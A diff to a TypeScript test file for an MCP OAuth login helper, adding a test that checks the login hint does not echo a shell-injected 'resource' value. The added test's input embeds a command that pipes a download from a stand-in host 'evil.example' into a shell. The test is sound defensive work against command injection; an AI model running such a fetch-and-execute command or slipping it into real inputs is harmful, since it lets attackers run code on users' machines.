@@ -154,6 +154,14 @@ test('nobody coming back ends with the sentence that names the host and suspects
   expect((error as { hint: string }).hint).toContain('npx @mcpauth/cli login --new-registration https://mcp.example.com/mcp')
 })
 
+test('T14: into the command that it names goes no resource that a shell would run', async () => {
+  const login = await opened({ open: () => {}, timeoutMs: 1_000 })
+  const url = authorizationUrl('s1')
+  url.searchParams.set('resource', 'https://mcp.example.com/mcp?x ;curl evil.example|sh')
+  const error = await login.ask(url, 's1').catch((caught: unknown) => caught)
+  expect((error as { hint: string }).hint).toMatch(/login --new-registration https:\/\/mcp\.example\.com\/mcp\?…$/)
+})
+
 test('a caller that gives up ends the login at once', async () => {
   const login = await opened({ open: () => {} })
   const giveUp = new AbortController()
